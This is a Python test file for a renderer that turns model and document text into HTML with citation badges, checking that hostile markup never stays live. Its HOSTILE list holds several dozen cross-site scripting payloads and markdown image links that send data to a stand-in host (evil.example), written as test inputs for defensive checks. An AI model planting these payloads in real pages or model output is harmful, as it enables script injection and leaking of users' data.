"""No text of a model or a document becomes live markup."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roma_core.ui.render import MAX_CHARS, TAGS, Badge, Gap, clean_html, mark_span, render_blocks, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<video src=https://evil.example autoplay></video>",
    "<audio src=https://evil.example autoplay></audio>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:x>x</a>",
    "<p style='position:fixed;inset:0' onclick=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "![x](https://evil.example/leak?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/leak",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x](https://a.example 'onmouseover=alert(1) x')",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <img src=x onerror=alert(1)>",
    "<a class='roma-badge evil' href='https://evil.example'>1</a>",
    "\x00<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "＜script＞alert(1)＜/script＞",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<a href=//evil.example>x</a>",
]


class Audit(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            loads = name in {"src", "srcset", "style", "srcdoc", "action", "formaction", "data", "poster", "background"}
            lies = name == "href" and not re.match(r"(https?:|mailto:|/(?!/)|#|[\w%.?-])", value or "")
            scheme = re.match(r"\s*([\w+.-]+):", value or "") if name == "href" else None
            if name.startswith("on") or loads or lies or (scheme and scheme[1] not in {"http", "https", "mailto"}):
                self.bad.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_stays_live(payload: str) -> None:
    assert Audit(to_html(payload, {1: "/sources/d"})).bad == []
    assert Audit(clean_html(payload)).bad == []


def test_the_audit_can_fail() -> None:
    assert Audit("<img src=x onerror=alert(1)>").bad
    assert Audit("<a href='javascript:alert(1)'>x</a>").bad


@given(st.text(alphabet="<>/\"'=[]()!`*_#|&;:\n abcjsonerimg", max_size=60))
def test_no_text_becomes_markup_that_was_not_allowed(text: str) -> None:
    assert Audit(to_html(text, {1: "/sources/d"})).bad == []


def test_markers_become_badges_and_unknown_ones_stay_text() -> None:
    html = to_html("One fact [1], another [2].", {1: "/sources/d?start=1&end=2"})
    assert 'class="roma-badge" data-verdict="unchecked" target="_blank" href="/sources/d?start=1&amp;end=2"' in html
    assert "[2]" in html and "[1]" not in html


def test_huge_text_is_cut_and_the_reader_is_told() -> None:
    text = "words [1] " * (MAX_CHARS // 10 + 2)
    html = to_html(text)
    assert html.endswith(f"Cut here: {len(text) - MAX_CHARS:,} more characters are not shown.</strong></p>")
    assert len(html) < len(text) + 200 and "Cut here" not in to_html(text[:MAX_CHARS])
    assert "Cut here" not in to_html(text, most=None)


def test_a_marker_in_code_is_code() -> None:
    assert "roma-badge" not in to_html("`list[1]`", {1: "/sources/d"})


def test_links_show_their_host_and_images_their_words() -> None:
    html = to_html("[our bank](https://evil.example/x) ![a chart](https://evil.example/p.png)")
    assert "[evil.example]" in html and 'rel="noopener noreferrer nofollow"' in html
    assert "a chart" in html and "p.png" not in html


def test_formatting_survives() -> None:
    html = to_html("# T\n\n**b** *i*\n\n- x\n\n|a|b|\n|-|-|\n|1|2|\n\n```\ncode\n```")
    assert all(f"<{tag}>" in html for tag in ("h1", "strong", "em", "li", "td", "pre"))


ALPHABET = "abcXY 12\n\n|-*_`#>[]().&;<\\é"


def words_in_marks(html: str) -> str:
    parts: list[str] = []

    class Marked(HTMLParser):
        inside = False

        def handle_starttag(self, tag: str, attrs: object) -> None:
            self.inside = tag == "mark" or self.inside

        def handle_endtag(self, tag: str) -> None:
            self.inside = self.inside and tag != "mark"

        def handle_data(self, data: str) -> None:
            if self.inside:
                parts.append(data)

    parser = Marked(convert_charrefs=True)
    parser.feed(html)
    parser.close()
    return "".join(parts)


def letters(text: str) -> str:
    return "".join(sign for sign in text if sign.isalpha())


@given(st.text(alphabet=ALPHABET, min_size=1, max_size=60), st.data())
def test_marked_words_are_those_of_the_span_or_none(text: str, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(text) - 1))
    end = data.draw(st.integers(start + 1, len(text)))
    html = mark_span(text, start, end)
    if html is not None:
        assert letters(words_in_marks(html)) == letters(unescape(text[start:end]))
        assert Audit(html.replace("<mark>", "").replace("</mark>", "")).bad == []


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_stays_live_where_words_are_marked_or_blocks_are_sent_one_by_one(payload: str) -> None:
    text = f"Before {payload} the words and {payload} after\n\n{payload}"
    for quote in ("the words", payload, f"{payload} the words"):
        start = text.index(quote)
        html = mark_span(text, start, start + len(quote))
        assert html is None or Audit(html).bad == []
    for block in render_blocks(text, {1: "/read/d"}, {3: Gap()}):
        assert Audit(block).bad == []


def test_direction_overrides_are_shown_and_marks_that_steer_stay() -> None:
    html = to_html("invoice\u202efdp.exe `a\u2066b`\n\n```\nc\u202dd\n```\n\n\u200fשלום")
    assert all(sign not in html for sign in "\u202e\u2066\u202d") and "[U+202E]" in html and "\u200f" in html


def test_columns_keep_their_alignment_without_styles() -> None:
    html = to_html("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<td class="roma-center">1</td>' in html and '<td class="roma-right">2</td>' in html and "style" not in html


def test_private_characters_of_a_text_place_no_badge_and_mark_nothing() -> None:
    html = to_html("[\ue0000\ue001] \ue002a\ue003", {1: "/read/d"})
    assert "roma-badge" not in html and "<mark>" not in html


def badges_of(html: str) -> list[str]:
    return re.findall(r'class="roma-badge"[^>]*>(\d+)</a>', html)


@pytest.mark.parametrize(
    ("answer", "badges"),
    [
        ("Built in 1902 [1].", ["1"]),
        (r"Built by Kern \[1], not in 1901 \[2]. [1]", ["1"]),
        ("Set `x[1]` first.\n\n```\ny[2]\n```\n\nThen go [2].", ["2"]),
        ("**Bold.**[1] and *more*[2]", ["1", "2"]),
        ("- one [1]\n- two [2]", ["1", "2"]),
        ("| a |\n|---|\n| b [2] |", ["2"]),
        ("See [9] and [1](https://a.example).", []),
        ("So [1].\n\n[1]: https://a.example", ["1"]),
        ("A forged \ue0001\ue001 [\ue0001\ue001] badge.", []),
    ],
)
def test_a_badge_stands_for_each_marker_with_a_citation_and_for_nothing_else(answer: str, badges: list[str]) -> None:
    assert badges_of(to_html(answer, {1: "/sources/a", 2: "/sources/b"})) == badges


def test_an_emphasised_word_before_a_badge_stays_emphasised() -> None:
    assert "<strong>Bold.</strong><a" in to_html("**Bold.**[1]", {1: "/sources/a"})


def test_a_badge_shows_its_verdict_at_its_place() -> None:
    text = "It is old [1]. It is new [1]."

    def badge_at(position: int, number: int) -> Badge:
        return Badge(number, "/s", "supported" if position == text.index("[1]") else "contradicted")

    html = to_html(text, badge_at)
    assert re.findall(r'data-verdict="(\w+)"', html) == ["supported", "contradicted"]
    assert "Source 1: supported" in html


def test_a_formula_of_its_own_line_is_set_as_one_also_with_a_badge_behind_it() -> None:
    text = "So:\n\n$$x^2 + 1$$\n\nAnd $$y^2$$ here; it costs $$5 and $$6."
    end = text.index("\n\nAnd")
    for gaps in ({}, {end: Gap("unsupported")}):
        shown = "".join(render_blocks(text, gaps=gaps))
        assert shown.count('<span class="roma-math roma-math-block">') == 2
        assert "$$5 and $$6" in shown and ("roma-gap" in shown) == bool(gaps)
